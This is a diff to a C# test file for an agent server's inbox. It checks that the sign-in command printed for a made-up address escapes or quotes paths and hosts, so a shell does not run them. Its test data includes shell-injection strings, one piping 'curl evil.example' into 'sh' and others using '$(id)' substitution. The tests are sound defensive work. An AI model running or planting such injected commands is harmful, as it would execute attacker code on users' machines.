@@ -1,10 +1,11 @@
 using System.Net;
+using System.Text.RegularExpressions;
 using AgentMcp.Server.Inbox;
 using AgentMcp.Server.Tests.Running;
 
 namespace AgentMcp.Server.Tests.Inbox;
 
-public sealed class Only_who_signed_in_sees_pages(SharedServers servers)
+public sealed partial class Only_who_signed_in_sees_pages(SharedServers servers)
 {
     public static TheoryData<string> Pages => new()
     {
@@ -26,6 +27,29 @@ public sealed class Only_who_signed_in_sees_pages(SharedServers servers)
         var page = await reply.Content.ReadAsStringAsync(TestContext.Current.CancellationToken);
         Assert.Contains("Open the sign-in link that the server printed when it started.", page, StringComparison.Ordinal);
         Assert.Contains($"agentmcp inbox --sign-in {stranger.Site}{path}", page, StringComparison.Ordinal);
+    }
+
+    [Theory]
+    [InlineData("/requests/x;curl%20evil.example%7Csh", "/requests/x%3Bcurl%20evil.example%7Csh")]
+    [InlineData("/agents/$(id)%60id%60&'%22%3E%0Aid*", "/agents/%24%28id%29%60id%60%26%27%22%3E%0Aid%2A")]
+    [InlineData("/threads/caf%C3%A9/log.json", "/threads/caf%C3%A9/log.json")]
+    public async Task Of_an_address_that_somebody_made_up_it_has_nothing_run_that_a_shell_reads(string path, string shown)
+    {
+        var server = await servers.Of(Transport.Http, Ways.Newest);
+        using var stranger = Visitor.Stranger(server.Url!);
+
+        Assert.Equal($"agentmcp inbox --sign-in {stranger.Site}{shown}", await Command(stranger, path));
+        using var entered = await stranger.Enter(Visitor.LinkTo(stranger.Site, Database, new Uri(stranger.Site + shown).AbsolutePath));
+        Assert.Equal(shown, entered.Headers.GetValues("Location").Single());
+    }
+
+    [Fact]
+    public async Task A_host_that_is_a_pattern_to_a_shell_is_shown_in_quotes()
+    {
+        var server = await servers.Of(Transport.Http, Ways.Newest);
+        using var stranger = Visitor.Stranger(server.Url!);
+
+        Assert.Equal("agentmcp inbox --sign-in \"http://[::1]:8484/threads\"", await Command(stranger, "/threads", host: "[::1]:8484"));
     }
 
     [Fact]
@@ -163,4 +187,13 @@ public sealed class Only_who_signed_in_sees_pages(SharedServers servers)
             Assert.DoesNotMatch("""<script(?! src="/inbox\.js" defer></script>)|<style| style=| on[a-z]+=|(?:src|href)="(?:https?:)?//""", page);
         }
     }
+
+    private static async Task<string> Command(Visitor stranger, string path, string? host = null)
+    {
+        using var reply = await stranger.Send(HttpMethod.Get, path, request => request.Headers.Host = host);
+        return WebUtility.HtmlDecode(Shown().Match(await reply.Content.ReadAsStringAsync(TestContext.Current.CancellationToken)).Groups[1].Value);
+    }
+
+    [GeneratedRegex("<pre tabindex=\"0\"><code>(.*)</code></pre>", RegexOptions.Singleline)]
+    private static partial Regex Shown();
 }
